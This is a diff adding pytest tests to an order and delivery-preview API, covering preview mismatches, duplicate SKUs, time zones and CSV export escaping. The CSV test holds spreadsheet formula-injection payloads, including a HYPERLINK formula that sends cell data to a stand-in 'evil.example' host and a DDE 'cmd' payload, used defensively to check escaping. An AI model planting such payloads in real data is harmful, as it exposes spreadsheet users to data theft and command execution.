@@ -14,6 +14,7 @@ from sqlalchemy import func, select
 from sqlalchemy.orm import Session
 
 from doorstep.models import InventoryLevel, Node, Order, OutboxEvent, Package, Product
+from doorstep.orders import views
 from doorstep.orders.schemas import OrderIn
 from tests.shop import DOWNTOWN_CHANDLER, NORTH_PHOENIX, Shop, local, open_shop
 
@@ -252,6 +253,81 @@ def test_an_option_the_preview_did_not_offer(client: TestClient, shop: Shop) -> 
     assert "cut-off" in response.json()["detail"]
 
 
+NEW_YORK = {"lat": 40.7484, "lng": -73.9857, "address": "350 5th Ave", "postal_code": "10118"}
+
+
+@pytest.mark.parametrize(
+    ("destination", "field"),
+    [
+        (NEW_YORK, "destination.lat"),
+        (DOWNTOWN_CHANDLER | {"lng": -111.7}, "destination.lng"),  # 13 km east
+        (DOWNTOWN_CHANDLER | {"postal_code": "10118"}, "destination.postal_code"),
+    ],
+)
+def test_an_order_from_a_preview_goes_where_the_preview_was_made_for(
+    client: TestClient, session: Session, shop: Shop, destination: dict[str, Any], field: str
+) -> None:
+    preview = client.post(
+        "/v1/delivery-previews",
+        json={
+            "items": [{"sku": "PAN-28", "quantity": 1}],
+            "destination": DOWNTOWN_CHANDLER | {"postal_code": "85225"},
+        },
+        headers=shop.headers(publishable=True),
+    ).json()
+    assert preview["options"][0]["id"] == "same_day"
+    response = _order(
+        client,
+        shop,
+        {
+            "preview_id": preview["id"],
+            "option_id": "same_day",
+            "destination": destination,
+            "recipient": RECIPIENT,
+        },
+    )
+    assert response.status_code == 409, response.json()
+    assert response.json()["error"] == "order_differs_from_preview"
+    assert response.json()["context"] == {"field": field, "preview_id": preview["id"]}
+    assert session.scalar(select(func.count()).select_from(Order)) == 0
+    assert _reserved(session, "PAN-28", "MCFC-KITCHEN") == 0
+
+
+def test_an_order_from_a_preview_adds_the_street_address_to_the_preview_s_point(
+    client: TestClient, session: Session, shop: Shop
+) -> None:
+    preview = client.post(
+        "/v1/delivery-previews",
+        json={
+            "items": [{"sku": "PAN-28", "quantity": 1}],
+            "destination": {"lat": 33.3035, "lng": -111.841, "postal_code": "85225"},
+        },
+        headers=shop.headers(publishable=True),
+    ).json()
+    street = {
+        "lat": 33.30350000001,  # the same point, as another client's floats print it
+        "lng": -111.841,
+        "address": "1 E Chicago St",
+        "city": "Chandler",
+        "state": "AZ",
+    }
+    response = _order(
+        client,
+        shop,
+        {
+            "preview_id": preview["id"],
+            "option_id": "same_day",
+            "destination": street,
+            "recipient": RECIPIENT,
+        },
+    )
+    assert response.status_code == 201, response.json()
+    destination = response.json()["destination"]
+    assert (destination["lat"], destination["lng"]) == (33.3035, -111.841)
+    assert (destination["address"], destination["postal_code"]) == ("1 E Chicago St", "85225")
+    assert session.scalars(select(Order.dest_postal_code)).one() == "85225"
+
+
 def _two_day(destination: dict[str, Any]) -> dict[str, Any]:
     return {
         "items": [{"sku": "PAN-28", "quantity": 1}],
@@ -363,6 +439,34 @@ def test_bad_orders_name_the_problem(client: TestClient, shop: Shop) -> None:
     assert publishable.status_code == 403
 
 
+def test_a_sku_named_twice_is_refused_and_reserves_nothing(
+    client: TestClient, session: Session, shop: Shop
+) -> None:
+    twice = [{"sku": "PAN-28", "quantity": 1}, {"sku": "PAN-28", "quantity": 2}]
+    order = _order(
+        client,
+        shop,
+        {
+            "items": twice,
+            "destination": DOWNTOWN_CHANDLER,
+            "speed": "same_day",
+            "recipient": RECIPIENT,
+        },
+    )
+    preview = client.post(
+        "/v1/delivery-previews",
+        json={"items": twice, "destination": DOWNTOWN_CHANDLER},
+        headers=shop.headers(publishable=True),
+    )
+    for response in (order, preview):
+        assert (response.status_code, response.json()["error"]) == (422, "validation_error")
+        [problem] = response.json()["detail"]
+        assert problem["field"] == "body.items"
+        assert "'PAN-28' appears twice" in problem["message"]
+    assert session.scalar(select(func.count()).select_from(Order)) == 0
+    assert _reserved(session, "PAN-28", "MCFC-KITCHEN") == 0
+
+
 def test_cancel_releases_stock_once_and_refuses_after_pickup(
     client: TestClient, session: Session, shop: Shop
 ) -> None:
@@ -431,6 +535,65 @@ def test_list_search_paginate_and_export(client: TestClient, shop: Shop) -> None
     assert len(rows) == 5
     assert rows[0]["items"] == "1 x PAN-28"
     assert rows[0]["packages"].endswith(":created")
+
+
+# What a shopper or a merchant's page may type that a spreadsheet would run as a formula.
+FORMULAS = {
+    "recipient_name": '=HYPERLINK("http://evil.example/?"&A1,"Ana")',
+    "recipient_phone": "+1 480 555 0101",
+    "recipient_email": "-2+3@example.com",
+    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "merchant_reference": '=1+2";=1+2',
+    "payment_reference": "-1",
+}
+
+
+def test_the_csv_export_shows_formulas_as_text(client: TestClient, shop: Shop) -> None:
+    body = {
+        "items": [{"sku": "PAN-28", "quantity": 1}],
+        "destination": DOWNTOWN_CHANDLER | {"address": FORMULAS["address"]},
+        "speed": "same_day",
+        "recipient": {
+            "name": FORMULAS["recipient_name"],
+            "phone": FORMULAS["recipient_phone"],
+            "email": FORMULAS["recipient_email"],
+        },
+        "merchant_reference": FORMULAS["merchant_reference"],
+        "payment_reference": FORMULAS["payment_reference"],
+    }
+    assert _order(client, shop, body).status_code == 201
+    export = client.get("/v1/orders.csv", headers=shop.headers()).text
+    [row] = csv.DictReader(io.StringIO(export))
+    assert {column: row[column] for column in FORMULAS} == {
+        column: f"'{value}" for column, value in FORMULAS.items()
+    }
+    # Every cell is quoted, so a separator inside one cannot start another.
+    assert all(line.startswith('"') and line.endswith('"') for line in export.splitlines())
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_would_start_a_formula_is_escaped(start: str) -> None:
+    assert views.csv_cell(f"{start}cmd") == f"'{start}cmd"
+    assert views.csv_cell(f"x{start}cmd") == f"x{start}cmd"
+
+
+def test_a_moment_without_a_time_zone_is_read_as_utc(client: TestClient, shop: Shop) -> None:
+    body = _two_day(DOWNTOWN_CHANDLER)
+    assert _order(client, shop, body).status_code == 201  # placed at 17:00 UTC
+    for path in ("/v1/orders", "/v1/orders.csv"):
+        counts = []
+        for moment in ("2026-11-24T17:00:00", "2026-11-24T17:00:00Z", "2026-11-24T17:00:01"):
+            response = client.get(path, params={"created_from": moment}, headers=shop.headers())
+            assert response.status_code == 200, response.text
+            if path.endswith(".csv"):
+                counts.append(len(list(csv.DictReader(io.StringIO(response.text)))))
+            else:
+                counts.append(len(response.json()["data"]))
+        assert counts == [1, 1, 0]
+        before = client.get(
+            path, params={"created_to": "2026-11-24T10:00:00-07:00"}, headers=shop.headers()
+        )
+        assert before.status_code == 200
 
 
 def test_orders_are_private_to_their_merchant(
